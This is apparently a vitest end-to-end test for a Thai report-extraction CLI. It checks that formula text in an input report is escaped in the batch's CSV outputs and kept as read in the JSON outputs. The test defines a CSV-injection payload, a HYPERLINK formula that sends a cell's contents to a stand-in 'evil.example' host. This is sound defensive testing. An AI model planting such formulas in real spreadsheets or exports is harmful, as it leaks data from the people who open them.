/**
 * End to end: a report whose printed text would run as a spreadsheet formula goes through
 * `ita-extract convert <folder> -o <outdir>`; the CSVs the batch writes carry it as text, while
 * the per-document JSON and all.jsonl keep it exactly as read.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { runCli } from '../src/cli/main.js'
import { ExitCode } from '../src/cli/exit-code.js'
import type { Report } from '../src/report/schema.js'
import { seedTranscript } from './helpers.js'

const HOSTILE = `=HYPERLINK("http://evil.example/?d="&A1,"ดูรายละเอียด")`
const RESPONSIBLE = 'ทุกส่วนราชการ (สำนักปลัด อบต./กองคลัง/กองช่าง/กองการศึกษา ศาสนาและวัฒนธรรม/ กองสาธารณสุขและสิ่งแวดล้อม)'

let dir: string
let out: string
let code: number
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'ita-csv-injection-batch-'))
  const seed = readFileSync(seedTranscript, 'utf8')
  // The first measures row's responsible-units cell, as a hostile author could have printed it.
  expect(seed).toContain(`\t${RESPONSIBLE}\n`)
  writeFileSync(join(dir, 'hostile.txt'), seed.replace(`\t${RESPONSIBLE}\n`, `\t${HOSTILE} ${RESPONSIBLE}\n`))
  out = join(dir, 'out')
  vi.spyOn(process.stderr, 'write').mockImplementation(() => true)
  vi.spyOn(process.stdout, 'write').mockImplementation(() => true)
  try {
    code = await runCli(['convert', join(dir, 'hostile.txt'), '-o', out, '--jobs', '1'])
  } finally {
    vi.restoreAllMocks()
  }
})
afterAll(() => rmSync(dir, { recursive: true, force: true }))

const csv = (file: string) => parse(readFileSync(join(out, file), 'utf8'), { columns: true }) as Record<string, string>[]

describe('convert <folder> -o <outdir> with formula text in a report', () => {
  it('converts it', () => {
    expect(code).toBe(ExitCode.ok)
  })

  it('measures.csv carries the text with a leading quote; the JSON keeps it as read', () => {
    const report = JSON.parse(readFileSync(join(out, 'hostile.txt.json'), 'utf8')) as Report
    const measure = report.indicators.flatMap((i) => i.measures).find((m) => m.responsibleText?.value.startsWith('=HYPERLINK'))
    expect(measure, 'the hostile cell is read as the responsible units').toBeDefined()
    const rows = csv('measures.csv').filter((r) => r.responsible_text!.includes('HYPERLINK'))
    expect(rows).toHaveLength(1)
    expect(rows[0]!.responsible_text).toBe(`'${measure!.responsibleText!.value}`)
    const fromJsonl = JSON.parse(readFileSync(join(out, 'all.jsonl'), 'utf8').trim()) as Report
    const texts = fromJsonl.indicators.flatMap((i) => i.measures.map((m) => m.responsibleText?.value))
    expect(texts).toContain(measure!.responsibleText!.value)
  })

  it('no CSV of the batch has a cell a spreadsheet would evaluate, other than a number', () => {
    for (const file of ['documents.csv', 'indicators.csv', 'items.csv', 'measures.csv', 'findings.csv']) {
      for (const row of csv(file)) {
        for (const [column, cell] of Object.entries(row)) {
          if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)), `${file} ${column} ${JSON.stringify(cell)}`).toBe(true)
        }
      }
    }
  })
})

describe('convert --no-csv-escape', () => {
  it('writes the CSV text exactly as read, for programs that read the CSVs', async () => {
    const raw = join(dir, 'raw-out')
    vi.spyOn(process.stderr, 'write').mockImplementation(() => true)
    vi.spyOn(process.stdout, 'write').mockImplementation(() => true)
    let rawCode: number
    try {
      rawCode = await runCli(['convert', join(dir, 'hostile.txt'), '-o', raw, '--jobs', '1', '--no-csv-escape'])
    } finally {
      vi.restoreAllMocks()
    }
    expect(rawCode).toBe(ExitCode.ok)
    const rows = (parse(readFileSync(join(raw, 'measures.csv'), 'utf8'), { columns: true }) as Record<string, string>[]).filter((r) => r.responsible_text!.includes('HYPERLINK'))
    expect(rows).toHaveLength(1)
    expect(rows[0]!.responsible_text!.startsWith('=HYPERLINK')).toBe(true)
  })
})
